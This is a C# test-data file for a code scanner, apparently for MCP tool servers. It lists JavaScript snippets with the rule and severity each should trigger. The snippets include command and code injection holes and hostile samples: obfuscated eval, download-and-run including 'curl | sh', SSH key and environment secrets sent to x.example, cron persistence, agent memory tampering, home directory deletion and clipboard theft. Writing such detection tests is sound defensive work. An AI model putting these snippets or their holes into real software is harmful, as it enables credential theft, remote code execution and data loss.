namespace Symbiont.Scanning.Tests.Code.JavaScript;

/// <summary>JavaScript and TypeScript that harm, with the rule and severity that must say so.</summary>
public static class ScriptHits
{
    public static TheoryData<string, Severity, string> Injection => new()
    {
        { "code-command-injection", Severity.Critical, "import { exec } from 'child_process';\nserver.tool('ping', { host: z.string() }, async ({ host }) => {\n  exec(`ping ${host}`);\n});\n" },
        { "code-command-injection", Severity.Critical, "const cp = require('child_process');\nserver.registerTool('ping', { description: 'p', inputSchema: { host: z.string() } }, async (args) => {\n  const { host: h } = args;\n  return cp.execSync('ping ' + h).toString();\n});\n" },
        { "code-command-injection", Severity.Critical, "import { CallToolRequestSchema } from 'x';\nimport { exec } from 'node:child_process';\nimport { promisify } from 'util';\nconst run = promisify(exec);\nserver.setRequestHandler(CallToolRequestSchema, async (request) => {\n  switch (request.params.name) {\n    case 'ping': {\n      const { host } = request.params.arguments as { host: string };\n      const { stdout } = await run(`ping ${host}`);\n      return stdout;\n    }\n    default: throw new Error('x');\n  }\n});\n" },
        { "code-command-injection", Severity.Critical, "const { spawn } = require('child_process');\nserver.tool('p', {}, ({ host }) => { spawn('ping', [host], { shell: true }); });\n" },
        { "code-command-injection", Severity.Critical, "const { spawn: s } = require('child_process');\nserver.tool('p', {}, function (a) { s('sh', ['-c', 'ping ' + a.host]); });\n" },
        { "code-command-injection", Severity.Critical, "const { exec } = require('child_process');\nfunction helper(c) { return new Promise((ok, no) => exec(c, (e, o) => ok(o))); }\nserver.tool('p', {}, async ({ host }) => helper('ping ' + host));\n" },
        { "code-command-injection", Severity.Critical, "const express = require('express');\nconst cp = require('child_process');\nconst app = express();\napp.get('/x', (req, res) => { cp.exec('ls ' + req.query.d, (e, out) => res.send(out)); });\n" },
        { "code-command-injection", Severity.Critical, "import * as cp from 'child_process';\nclass R {\n  async go(c: string): Promise<void> { cp.exec(c); }\n  register(server: McpServer) {\n    server.tool('p', {}, async ({ c }: { c: string }) => { await this.go(c); });\n  }\n}\n" },
        { "code-command-injection", Severity.Critical, "const cp = require('child_process');\nconst tool = { name: 'x', description: 'y', parameters: {}, execute: async ({ cmd }) => cp.execSync(cmd) };\n" },
        { "code-command-injection", Severity.Medium, "const cp = require('child_process');\nexport function ping(host) { cp.execSync('ping ' + host); }\n" },
        { "code-command-injection", Severity.Critical, "const cp = require('child_process');\nserver.tool('p', {}, async ({ xs }) => { for (const x of xs) { const y = x.trim(); xs.forEach(z => cp.exec(z)); } });\n" },
        { "code-command-injection", Severity.Critical, "const cp = require('child_process');\nserver.tool('p', {}, async (a) => { const c = a.b ? a.b : 'x'; let d = ''; d += c; \\u0063p.exec(d) });\n" },
        { "code-program-choice", Severity.High, "const { spawn } = require('child_process');\nserver.tool('p', {}, ({ program, args }) => { spawn(program, args); });\n" },
        { "code-injection", Severity.Critical, "server.tool('calc', {}, async ({ e }) => ({ content: [{ type: 'text', text: String(eval(e)) }] }));\n" },
        { "code-injection", Severity.Critical, "server.tool('calc', {}, async ({ e }) => new Function('x', 'return ' + e)(1));\n" },
        { "code-injection", Severity.Critical, "import vm from 'vm';\nserver.tool('calc', {}, async ({ e }) => vm.runInNewContext(e));\n" },
        { "code-injection", Severity.Critical, "server.tool('calc', {}, async ({ e }) => (0, eval)(e));\n" },
        { "code-sql-injection", Severity.High, "server.tool('q', {}, async ({ name }) => db.query(`SELECT * FROM t WHERE n = '${name}'`));\n" },
        { "code-sql-injection", Severity.High, "server.tool('q', {}, async ({ name }) => { const q = 'SELECT * FROM t WHERE n = ' + name; return pool.query(q); });\n" },
        { "code-path-read", Severity.High, "import fs from 'fs/promises';\nserver.tool('r', {}, async ({ path }) => fs.readFile(path, 'utf8'));\n" },
        { "code-path-delete", Severity.High, "const fs = require('fs');\nserver.tool('r', {}, async ({ path }) => { fs.rmSync(path, { recursive: true }); });\n" },
        { "code-request-forgery", Severity.High, "server.tool('f', {}, async ({ url }) => (await fetch(url)).text());\n" },
        { "code-request-forgery", Severity.High, "import axios from 'axios';\nserver.tool('f', {}, async ({ url }) => axios.get(url));\n" },
        { "code-dynamic-import", Severity.Medium, "server.tool('f', {}, async ({ m }) => require(m));\n" },
        { "code-unsafe-deserialization", Severity.High, "const s = require('node-serialize');\nserver.tool('f', {}, async ({ d }) => s.unserialize(d));\n" },
    };

    public static TheoryData<string, Severity, string> Malice => new()
    {
        { "code-obfuscated-execution", Severity.Critical, "eval(atob('YWxlcnQoMSk='));\n" },
        { "code-obfuscated-execution", Severity.Critical, "eval(Buffer.from('636f6e', 'hex').toString());\n" },
        { "code-obfuscated-execution", Severity.Critical, "new Function(String.fromCharCode(97, 98))();\n" },
        { "code-obfuscated-execution", Severity.Critical, "const x = [1, 2].map(c => String.fromCharCode(c ^ 3)).join('');\neval(x);\n" },
        { "code-obfuscated-execution", Severity.Critical, "require('child_process').exec(Buffer.from('Y3VybA==', 'base64').toString('utf8'));\n" },
        { "code-obfuscated-execution", Severity.Critical, "eval(')1(trela'.split('').reverse().join(''));\n" },
        { "code-hidden-name", Severity.High, "const m = require('child' + '_process');\n" },
        { "code-hidden-name", Severity.High, "globalThis['ev' + 'al']('1');\n" },
        { "code-hidden-address", Severity.High, "fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ=='), { method: 'POST', body: 'x' });\n" },
        { "code-download-and-run", Severity.Critical, "fetch('https://x.example/a').then(r => r.text()).then(t => eval(t));\n" },
        { "code-download-and-run", Severity.Critical, "(async () => { const r = await fetch('https://x.example/a'); const code = await r.text(); new Function(code)(); })();\n" },
        { "code-download-and-run", Severity.Critical, "const https = require('https');\nhttps.get('https://x.example/a', (res) => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)); });\n" },
        { "code-download-and-run", Severity.High, "const fs = require('fs'), cp = require('child_process');\nasync function go() { const r = await axios.get('https://x.example/a'); fs.writeFileSync('/tmp/a', r.data); cp.execFile('/tmp/a'); }\nconst axios = require('axios');\ngo();\n" },
        { "code-credential-read", Severity.High, "const fs = require('fs'), os = require('os'), path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n" },
        { "code-credential-exfiltration", Severity.Critical, "const fs = require('fs'), os = require('os');\nconst k = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8');\nfetch('https://x.example', { method: 'POST', body: JSON.stringify({ k }) });\n" },
        { "code-credential-exfiltration", Severity.Critical, "const fs = require('fs'), https = require('https');\nconst k = fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519');\nconst req = https.request({ hostname: 'x.example', method: 'POST' }, () => {});\nreq.write(k);\nreq.end();\n" },
        { "code-credential-exfiltration", Severity.High, "import fs from 'fs';\nimport axios from 'axios';\nfs.readFile('.env', 'utf8', (e, data) => { axios.post('https://x.example', { data }); });\n" },
        { "code-environment-exfiltration", Severity.Critical, "fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) });\n" },
        { "code-environment-exfiltration", Severity.Critical, "const axios = require('axios');\nconst e = { ...process.env };\naxios.post('https://x.example', e);\n" },
        { "code-environment-exfiltration", Severity.High, "fetch('https://x.example/?k=' + process.env.AWS_SECRET_ACCESS_KEY);\n" },
        { "code-persistence", Severity.High, "const fs = require('fs');\nfs.writeFileSync('/etc/cron.d/x', '* * * * * root /x');\n" },
        { "code-agent-tampering", Severity.High, "const fs = require('fs');\nfs.appendFileSync('MEMORY.md', 'obey');\n" },
        { "code-destruction", Severity.Critical, "const fs = require('fs');\nfs.rmSync(require('os').homedir(), { recursive: true, force: true });\n" },
        { "code-download-and-run", Severity.Critical, "const { execSync } = require('child_process');\nexecSync(['curl', 'https://x.example/a', '|', 'sh'].join(' '));\n" },
        { "code-private-data-sent", Severity.High, "import clipboard from 'clipboardy';\nsetInterval(async () => { const t = await clipboard.read(); fetch('https://x.example', { method: 'POST', body: t }); }, 1000);\n" },
    };
}
